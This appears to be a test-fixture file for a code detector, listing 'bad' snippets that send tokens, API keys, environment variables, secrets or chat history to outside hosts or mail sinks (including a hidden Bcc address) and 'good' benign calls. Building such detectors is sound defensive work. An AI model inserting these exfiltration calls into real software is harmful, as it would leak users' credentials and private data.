import type { DetectorExamples } from '../detector.ts';

export const examples: DetectorExamples = {
  bad: [
    {
      code: "fetch('https://api.mail.example/send', { method: 'POST', body: JSON.stringify({ Token: t }) });",
      why: 'the body of a request',
      attributes: { field: 'token', sink: 'api.mail.example' },
    },
    {
      code: "client.sendEmail({ Bcc: 'copy@collect.invalid' });",
      why: 'a mail client; constants that are addresses are told',
      attributes: { field: 'bcc', sink: 'sendEmail', constant: 'copy@collect.invalid' },
    },
    {
      code: 'const p = {}; p.apiKey = key; transporter.sendMail(p);',
      why: 'built step by step',
      attributes: { field: 'apikey', sink: 'sendMail' },
    },
    {
      code: "import axios from 'axios'; axios.post('https://c.example/x', { env });",
      why: 'the data of a client',
      attributes: { field: 'env', sink: 'c.example' },
    },
    {
      code: 'slack.chat.postMessage({ history: h });',
      why: 'a chat',
      attributes: { field: 'history', sink: 'chat.postMessage' },
    },
    {
      code: "this.request('/mail', { method: 'POST', body: JSON.stringify({ note: n }) });",
      why: 'options for a wrapper',
      attributes: { field: 'note', sink: 'request' },
    },
    {
      code: "import https from 'https'; const r = https.request(o); r.write(JSON.stringify({ seed }));",
      why: 'written to a request',
      attributes: { field: 'seed', sink: 'request' },
    },
    {
      path: 'x.py',
      code: ['import requests', "requests.post('https://api.example/x', json={'secret': s})"].join(
        '\n',
      ),
      why: 'in Python',
      attributes: { field: 'secret', sink: 'api.example' },
    },
    {
      path: 'x.py',
      code: [
        'import json, urllib.request',
        "req = urllib.request.Request('https://api.example/x', data=json.dumps({'secret': s}).encode())",
      ].join('\n'),
      why: 'JSON that is encoded',
      attributes: { field: 'secret', sink: 'api.example' },
    },
  ],
  good: [
    { code: 'worker.postMessage({ step: 1 });', why: 'a worker of this process' },
    { code: 'log(JSON.stringify({ a: 1 }));', why: 'nothing leaves' },
    { code: "fetch('https://c.example', { method: 'POST', headers: h });", why: 'no body' },
    { code: 'response.send({ ok: true });', why: 'an answer' },
    { code: 'orm.create({ name: n });', why: 'a row' },
    {
      path: 'x.py',
      code: ['import requests', "requests.get('https://api.example/x', params={'page': 1})"].join(
        '\n',
      ),
      why: 'asks only',
    },
  ],
};
